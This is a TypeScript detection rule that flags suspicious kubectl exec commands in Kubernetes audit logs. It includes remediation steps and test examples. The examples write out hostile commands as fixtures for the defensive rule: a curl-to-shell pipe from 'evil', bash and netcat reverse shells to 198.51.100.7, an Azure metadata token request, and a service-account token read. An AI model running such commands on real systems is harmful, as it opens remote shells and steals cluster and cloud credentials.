import { type AuditEvent, AuditStage } from '../../../kubernetes/auditEvent';
import { attachEvent, execEvent } from '../../exampleEvents';
import {
  categoriesOf,
  classifyCommandLine,
  CommandCategory,
  commandCategoryLabels,
  type CommandMatch,
  execCommandArgs,
  execEntities,
  redactedExecCommand,
  streamContainerName,
} from '../../predicates/commandLines';
import { isSystemRequest } from '../../predicates/identities';
import { isPodStreamRequest, namespaceOf, succeeded } from '../../predicates/requests';
import { defineRule, Intent, Severity } from '../../rule';

function commandMatches(event: AuditEvent): CommandMatch[] {
  return classifyCommandLine(execCommandArgs(event).join(' '));
}

const web1 = { namespace: 'shop', pod: 'web-1', container: 'web' };
const readServiceAccountToken = ['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token'];

export const suspiciousExecCommand = defineRule({
  id: 'suspicious-exec-command',
  alertType: 'K8S_SuspiciousExecCommand',
  displayName: 'Suspicious command run in a container through the API server',
  description:
    'A command run in a container through the API server (`kubectl exec`) looks like an attack: a reverse shell, a download ' +
    'piped into a shell or made executable, a call to the cloud instance metadata endpoint for an identity token, or a read ' +
    'of credentials (service-account or workload-identity tokens, kubeconfig files, node cloud configuration, password hashes, ' +
    'cloud CLI credentials, SSH keys). These are the same behaviours Defender\'s node sensor reports from inside the container ' +
    '(K8S.NODE_ReverseShell, K8S.NODE_DownloadAndRunCombo, K8S.NODE_ImdsCall, K8S.NODE_KubeConfigAccess), seen here in the ' +
    'audit log without a node agent. The exec alert (exec-into-pod) is raised for the same request as well.',
  // New alert type. Medium as Defender's node alerts for the same behaviours; a reverse shell or a platform namespace raises it to High (severityFor).
  severity: Severity.Medium,
  severityFor: (event, context) =>
    categoriesOf(commandMatches(event)).includes(CommandCategory.reverseShell) || context.lists.infrastructureNamespaces.matches(namespaceOf(event))
      ? Severity.High
      : Severity.Medium,
  intent: Intent.Execution,
  techniques: ['T1609', 'T1059.004', 'T1105', 'T1552.005', 'T1552.001'],
  remediation: [
    'Treat the account that ran the command as compromised until shown otherwise: revoke its sessions and credentials and review its other requests.',
    'Rotate every credential the container could read: its service-account token, mounted secrets, its cloud (workload or node) identity.',
    'Look for what the command fetched or started: new processes, outbound connections to the address in the command, new workloads.',
    'Grant `pods/exec` only to the operators who need it, and block the metadata endpoint from pods with a network policy.',
  ],
  falsePositives: [
    'Administrators checking by hand that a workload identity or the metadata endpoint works (a curl to 169.254.169.254 or reading the projected token).',
    'Installation scripts run by hand in a development container (`curl ... | sh`).',
  ],
  references: [
    'https://attack.mitre.org/techniques/T1609/',
    'https://attack.mitre.org/techniques/T1552/005/',
    'https://learn.microsoft.com/azure/defender-for-cloud/alerts-containers',
    'https://kubernetes.io/docs/tasks/debug/debug-application/get-shell-running-container/',
  ],
  equivalents: { defender: [], falco: [], guardDuty: [], elastic: [] },
  stages: [AuditStage.ResponseStarted, AuditStage.ResponseComplete],
  resources: ['pods'],
  match: (event, context) =>
    isPodStreamRequest(event, 'exec') && succeeded(event) && commandMatches(event).length > 0 && !isSystemRequest(event, context),
  entities: (event) => execEntities(event),
  details: (event) => {
    const matches = commandMatches(event);
    const container = streamContainerName(event);
    return {
      categories: categoriesOf(matches)
        .map((category) => commandCategoryLabels[category])
        .join(', '),
      indicators: matches.map((match) => match.indicator).join(', '),
      command: redactedExecCommand(event) ?? '',
      ...(container === undefined ? {} : { container }),
    };
  },
  dedupKey: (event) => `${namespaceOf(event) ?? ''}|${event.objectRef?.name ?? ''}|${event.user.username}|${categoriesOf(commandMatches(event)).join(',')}`,
  examples: [
    {
      name: 'a download piped into a shell',
      expect: 'alert',
      event: execEvent({ ...web1, command: ['sh', '-c', 'curl http://evil/x | sh'] }),
    },
    {
      name: 'a bash reverse shell over WebSocket exec',
      expect: 'alert',
      event: execEvent({
        verb: 'get',
        namespace: 'shop',
        pod: 'api-5b6c7d8e9f-k3j2h',
        container: 'api',
        command: ['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'],
      }),
    },
    {
      name: 'a managed identity token requested from the metadata endpoint',
      expect: 'alert',
      event: execEvent({
        ...web1,
        command: ['curl', '-s', '-H', 'Metadata: true', 'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/'],
      }),
    },
    {
      name: 'the service-account token read in a kube-system pod',
      expect: 'alert',
      event: execEvent({ namespace: 'kube-system', pod: 'coredns-6f9c8d7b5-q8w2e', container: 'coredns', command: readServiceAccountToken }),
    },
    {
      name: 'an ordinary shell',
      expect: 'none',
      event: execEvent({ ...web1, command: ['sh'] }),
    },
    {
      name: 'a health check with curl',
      expect: 'none',
      event: execEvent({ ...web1, command: ['curl', '-s', 'http://localhost:8080/healthz'] }),
    },
    {
      name: 'a reverse shell refused by RBAC',
      expect: 'none',
      event: execEvent({ ...web1, command: ['nc', '-e', '/bin/sh', '198.51.100.7', '4444'], code: 403, stage: AuditStage.ResponseComplete }),
    },
    {
      name: 'a listed system identity reads the token',
      expect: 'none',
      event: execEvent({ ...web1, command: readServiceAccountToken, user: 'aksService' }),
    },
    {
      name: 'an attach (no command)',
      expect: 'none',
      event: attachEvent(web1),
    },
  ],
});
